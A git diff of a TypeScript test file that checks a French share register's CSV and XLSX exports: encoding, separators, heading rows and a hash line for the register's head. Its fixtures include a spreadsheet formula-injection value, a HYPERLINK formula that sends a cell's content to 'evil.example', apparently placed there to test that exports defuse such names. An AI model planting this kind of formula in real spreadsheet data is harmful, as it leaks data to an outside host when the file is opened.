@@ -20,6 +20,9 @@ let companyId: string;
 let ordId: string;
 let adpId: string;
 
+/** What it is and whose, of when, and where it is verified. */
+const headingRows = 3;
+
 const formula = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")';
 
 // Claire and Karim hold ordinary shares; an entity and a person with a formula for a name hold others.
@@ -79,12 +82,18 @@ const text = async (path: string, language = "fr", client = admin): Promise<stri
 const sheets = async (path: string) => {
   const answer = await admin.get(`/companies/${companyId}/${path}`);
   expect(answer.status).toBe(200);
-  return readXlsxFile(answer.bytes);
+  const found = await readXlsxFile(answer.bytes);
+  return found.map(({ sheet, data }) => ({
+    ...{ sheet, heading: data.slice(0, headingRows), data: data.slice(headingRows) },
+  }));
 };
 
-/** The rows below the headings, but for the last: it says the head of the register. */
+/** The lines below what the file says of itself. */
+const tableOf = (csv: string): string[] => csv.trimEnd().split("\r\n").slice(headingRows);
+
+/** The rows below the titles, but for the last: it says the head of the register. */
 const rowsOf = (csv: string): string[] => {
-  const rows = csv.trimEnd().split("\r\n").slice(1);
+  const rows = tableOf(csv).slice(1);
   expect(rows.pop()).toMatch(/^# Tête du registre au [\d/]{10} – ligne n° \d+ : [\da-f]{64}$/);
   return rows;
 };
@@ -93,8 +102,8 @@ describe("a CSV file", () => {
   test("is one that a French spreadsheet opens: mark of UTF-8, semicolons, decimal commas, days", async () => {
     const csv = await text("register.csv");
     expect(csv.charCodeAt(0)).toBe(0xfeff);
-    const [head = "", first = "", ...others] = csv.split("\r\n");
-    expect(head).toMatch(/^\ufeffN°;Date d’effet;Nature;/);
+    const [head = "", first = "", ...others] = tableOf(csv);
+    expect(head).toMatch(/^N°;Date d’effet;Nature;/);
     expect(first).toContain("1;10/01/2024;Souscription;ORD;1234;1234,5;");
     expect(others.join("\n")).toContain(";0,000001;");
     const { headers } = await admin.get(`/companies/${companyId}/register.csv`);
@@ -106,7 +115,7 @@ describe("a CSV file", () => {
     const csv = await text("register.csv", "en-GB");
     expect(csv).toContain("1,2024-01-10,");
     expect(csv).toContain(",1234.5,");
-    expect(csv.split("\r\n")[0]).toMatch(/^\ufeffNo\.,/);
+    expect(tableOf(csv)[0]).toMatch(/^No\.,/);
   });
 
   test.each(["register.csv", "shareholder-accounts.csv", "cap-table.csv"])(
